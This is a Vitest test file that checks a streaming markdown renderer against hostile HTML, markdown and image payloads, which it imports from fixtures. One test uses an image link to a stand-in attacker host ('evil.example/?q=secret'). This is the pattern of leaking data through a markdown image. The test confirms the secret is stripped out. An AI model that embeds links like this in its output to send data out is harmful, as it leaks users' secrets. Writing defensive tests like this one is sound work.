import { describe, expect, it } from 'vitest';
import { hostileHtml, hostileMarkdown, imageSyntaxes } from '../../fixtures/markdown/hostile';
import { findForbidden } from './allow-list';
import { lexPieces, renderMarkdown, renderState } from './render-markdown';
import { seededRandom, splitRandomly } from './split-text';
import { lexIncrementally, type LexState } from '@/utils/markdown/lex-incrementally';

const SHORT = 120;
const payloads = [...hostileHtml, ...hostileMarkdown, ...imageSyntaxes];

function findForbiddenWhileStreaming(pieces: readonly string[]): string[] {
  const container = document.createElement('div');
  let source = '';
  let state: LexState | undefined;
  return pieces.flatMap((piece) => {
    source += piece;
    state = lexIncrementally(state, source);
    return findForbidden(renderState(state, container));
  });
}

describe('hostile answers', () => {
  it('has at least 100 different payloads', () => {
    expect(new Set(payloads).size).toBe(payloads.length);
    expect(payloads.length).toBeGreaterThanOrEqual(150);
  });

  it.each(payloads)('[RD-02] shows only allowed elements: %j', (payload) => {
    expect(findForbidden(renderMarkdown(payload))).toEqual([]);
    expect(findForbidden(renderMarkdown(`text ${payload} text`))).toEqual([]);
  });

  it.each(payloads)(
    '[RD-02] shows only allowed elements at every moment of the stream: %j',
    (payload) => {
      expect(findForbiddenWhileStreaming(payload.split(''))).toEqual([]);
    },
  );

  it.each(payloads)('[RD-02] looks the same however it was split: %j', (payload) => {
    const whole = renderMarkdown(payload).innerHTML;
    const random = seededRandom(payload.length);
    const splits =
      payload.length <= SHORT
        ? Array.from({ length: payload.length }, (_, at) => [
            payload.slice(0, at),
            payload.slice(at),
          ])
        : Array.from({ length: 40 }, () => splitRandomly(payload, random));
    for (const pieces of splits) {
      expect(renderState(lexPieces(pieces)).innerHTML, JSON.stringify(pieces)).toBe(whole);
    }
  });

  it('[RD-02] survives all payloads in one answer', () => {
    const all = payloads.join('\n\n');
    expect(findForbidden(renderMarkdown(all))).toEqual([]);
    expect(findForbiddenWhileStreaming(splitRandomly(all, seededRandom(1), 200))).toEqual([]);
  });

  it.each(hostileHtml.filter((payload) => /^<[a-z]/i.test(payload)))(
    '[RD-02] shows HTML as the text it is: %j',
    (payload) => {
      const shown = renderMarkdown(payload).textContent ?? '';
      expect(shown).toContain(payload.slice(0, 4));
    },
  );

  it.each(imageSyntaxes)('[RD-03] makes no element that loads something: %j', (payload) => {
    const container = renderMarkdown(payload);
    const loading = 'img, image, picture, source, input, svg, object, embed, iframe, link, style';
    expect(container.querySelector(loading)).toBeNull();
    expect(container.querySelector('[src], [srcset], [style], [poster], [background]')).toBeNull();
    expect([...container.querySelectorAll('*')].some((element) => element.shadowRoot)).toBe(false);
  });

  it('[RD-03] names the image and its host in text', () => {
    const container = renderMarkdown('![a cat](https://evil.example/?q=secret)');
    expect(container.querySelector('.md-image')?.textContent).toBe('a cat (evil.example)');
    expect(container.innerHTML).not.toContain('secret');
    expect(renderMarkdown('![x](data:image/png,y)').textContent).toBe('x ()');
  });
});
